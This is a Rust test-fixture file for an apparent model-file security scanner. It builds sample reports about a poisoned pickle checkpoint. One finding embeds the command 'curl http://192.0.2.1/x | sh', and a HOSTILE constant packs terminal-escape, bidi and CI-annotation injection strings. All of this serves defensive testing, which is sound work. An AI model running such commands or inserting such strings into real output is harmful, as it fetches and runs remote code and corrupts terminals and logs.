//! Reports made by hand, for the tests of the writers.

use base::{
    coverage::Coverage,
    excerpt::Excerpt,
    finding::{Finding, Lowered, Status},
    limits::{Level, Limits},
    listing::{Line, Listing, NamedListing},
    location::{ArtifactPath, Location, Place, Unit},
    reason::Reason,
    report::{ArtifactRecord, Check, Notice, Outcome, Report, RuleRecord, Tool},
    verdict::{Confidence, RuleKind, Severity},
};

/// Letters that end a line, colour it, turn it round, ring, hide or open a link; NUL apart.
pub(crate) const HOSTILE: &str =
    "a\u{1b}[31m\u{1b}]8;;http://x\u{7}b\r\nc\u{202e}d\u{9b}e\u{7f}f\u{200b}g\u{e0041}\u{feff}<b>::error::|`=1+1";

fn empty(target: &str) -> Report {
    let mut report = Report::empty(Tool {
        name: "modelward".into(),
        version: "0.1.0".into(),
        catalogue: "3f2a9c01".into(),
        level: Level::Standard,
        limits: Limits::default(),
    });
    report.target.push(target.into());
    report
}

fn record(path: &ArtifactPath, format: &str, reason: Option<Reason>) -> ArtifactRecord {
    let outcome = match reason {
        None => Outcome::Complete,
        Some(Reason::UnknownFormat) => Outcome::Unknown,
        Some(Reason::Time | Reason::Ratio) => Outcome::OverLimit,
        Some(_) => Outcome::Partial,
    };
    ArtifactRecord {
        path: path.shared(),
        path_hex: path.hex(),
        format: format.into(),
        formats: vec![format.into()],
        size: Some(1234),
        sha256: Some("0".repeat(64)),
        outcome,
        reason,
        detail: reason.map(|reason| format!("{} here", reason.describe())),
    }
}

fn finding(path: &ArtifactPath, severity: Severity, message: &str) -> Finding {
    let place = Place::bytes(0x28, 1).pointer(Unit::Opcode, "opcode 11");
    Finding {
        rule: "process-spawn".into(),
        kind: RuleKind::Threat,
        category: "code-execution".into(),
        severity,
        confidence: Confidence::High,
        title: "Loading this model starts a process".into(),
        message: message.into(),
        remedy: "Do not load this file. Ask its publisher for the weights as safetensors.\n\nIf it was loaded \
                 before, treat that machine as compromised:\n- rotate its keys;\n- look for new processes."
            .into(),
        subject: "posix.system".into(),
        location: Location::new(path, &place),
        artifact: path.shared(),
        evidence: "GLOBAL 'posix system', called by REDUCE with one constant".into(),
        count: 1,
        places: Vec::new(),
        cwe: vec!["CWE-502".into(), "CWE-78".into()],
        owasp_ml: vec!["ML06".into()],
        owasp_llm: vec!["LLM03".into()],
        atlas: vec!["AML.T0011.000".into()],
        lowered: None,
        fingerprint: Finding::fingerprint("process-spawn", path.as_str(), "posix.system", message),
        status: Status::Active,
        suppression: None,
        known: false,
    }
}

fn coverage() -> Coverage {
    Coverage { bytes_total: 1234, analysed: 1000, opaque: 200, skipped: 34, read: 1234 }
}

/// A poisoned checkpoint in an archive, with a member that nobody could read.
pub(crate) fn poisoned() -> Report {
    let mut report = empty("models/poisoned");
    let archive = ArtifactPath::root(b"model.tar").member(b"ckpt.pt");
    let (pickle, script) = (archive.member(b"archive/data.pkl"), archive.member(b"extra/run.gguf"));
    report.add(record(&archive, "zip", None), Vec::new(), coverage());
    let calls = ["echo this would have run on load", "curl http://192.0.2.1/x | sh"];
    let mut findings: Vec<Finding> = calls
        .iter()
        .map(|call| finding(&pickle, Severity::Critical, &format!("Loading calls posix.system({call:?})")))
        .collect();
    findings[1].count = 12;
    findings[1].places = vec![Location::new(&pickle, &Place::default().line(3, 7)); 6];
    let mut lowered = finding(&pickle, Severity::Low, "Loading builds an unknown class");
    lowered.rule = "unknown-class".into();
    lowered.title = "An unknown class is built".into();
    lowered.lowered = Some(Lowered { from: Severity::Medium, reason: "the policy sets unknown-class to low".into() });
    let mut old = finding(&pickle, Severity::High, "accepted");
    old.status = Status::Suppressed;
    findings.extend([lowered, old]);
    report.add(record(&pickle, "pickle", Some(Reason::Truncated)), findings, coverage());
    report.add(record(&script, "gguf", Some(Reason::NoReader)), Vec::new(), coverage());
    report.add_check("process-spawn".into(), Check { failed: 1, passed: 0, not_run: 2 });
    report.add_check("file-write".into(), Check { failed: 0, passed: 1, not_run: 2 });
    report.add_check("network-call".into(), Check { failed: 0, passed: 0, not_run: 3 });
    explain(&mut report, "process-spawn");
    let names = [("CWE-502", "Deserialization of Untrusted Data"), ("ML06", "AI Supply Chain Attacks")];
    report.standards = names.map(|(id, name)| (id.into(), name.into())).into();
    report
}

/// Adds what a rule says.
fn explain(report: &mut Report, rule: &str) {
    let record = RuleRecord {
        title: "Loading this model starts a process".into(),
        kind: RuleKind::Threat,
        category: "code-execution".into(),
        severity: Severity::Critical,
        confidence: Confidence::High,
        meaning: "Deserialising this artifact calls a function that starts another program.".into(),
        danger: "The program runs with the rights of whoever loads the model: see `__reduce__`.\n\n- a workstation;\n- a *cluster*."
            .into(),
        remedy: "Do not load this file.".into(),
        link: Some("https://github.com/modelward/modelward/blob/main/docs/rules/process-spawn.md".into()),
    };
    report.rules.insert(rule.into(), record);
}

/// The program of the pickle of [`poisoned`], with what its first finding points to.
pub(crate) fn excerpt() -> Excerpt {
    let report = poisoned();
    let mut listing = Listing::new("python");
    let lines = [
        ("from posix import system", 0x10, vec![]),
        ("_state = {'weights': [1, 2, 3]}", 0x1c, vec![]),
        ("_0 = 'echo this would have run on load'", 0x20, vec![]),
        ("_1 = system(_0)", 0x28, vec![0, 2]),
        ("result = _state", 0x2a, vec![1]),
    ];
    for (text, offset, uses) in lines {
        listing.push(Line { text: text.into(), place: Place::bytes(offset, 1), uses });
    }
    Excerpt::of(&NamedListing::new("model.tar!/ckpt.pt!/archive/data.pkl", "pickle", listing, &report.findings))
}

/// The poisoned one with an excerpt of its program.
pub(crate) fn explained() -> Report {
    let mut report = poisoned();
    report.excerpts.push(excerpt());
    report.notices.push(Notice::new("suppression-unused", "modelward.toml:3 suppresses nothing"));
    report
}

/// A harmless file.
pub(crate) fn clean() -> Report {
    let mut report = empty("model.pt");
    report.add(record(&ArtifactPath::root(b"model.pt"), "pickle", None), Vec::new(), coverage());
    report.add_check("process-spawn".into(), Check { failed: 0, passed: 1, not_run: 0 });
    report
}

/// A folder without files.
pub(crate) fn nothing() -> Report {
    let mut report = empty("empty");
    let record = record(&ArtifactPath::root(b"empty"), "folder", Some(Reason::NothingToScan));
    report.add(record, Vec::new(), Coverage::default());
    report
}

/// One artifact for each reason to be incomplete.
pub(crate) fn reasons() -> Report {
    let mut report = empty("all");
    for reason in Reason::ALL {
        let path = ArtifactPath::root(b"all").entry(reason.id().as_bytes());
        report.add(record(&path, "unknown", Some(*reason)), Vec::new(), coverage());
    }
    report
}

/// Every text that comes from outside is hostile.
pub(crate) fn hostile() -> Report {
    let mut report = empty(HOSTILE);
    let path = ArtifactPath::root(HOSTILE.as_bytes()).member(b"x\xff\x1b]0;y");
    let mut found = finding(&path, Severity::Medium, HOSTILE);
    found.evidence = HOSTILE.into();
    found.subject = HOSTILE.into();
    found.remedy = HOSTILE.into();
    found.location.pointer = Some(HOSTILE.into());
    let mut record = record(&path, HOSTILE, Some(Reason::Malformed));
    record.detail = Some(HOSTILE.into());
    report.add(record, vec![found], coverage());
    report.add_check(HOSTILE.into(), Check { failed: 1, passed: 0, not_run: 0 });
    explain(&mut report, "process-spawn");
    report
}

/// All of them.
pub(crate) fn all() -> Vec<Report> {
    vec![poisoned(), explained(), clean(), nothing(), reasons(), hostile()]
}
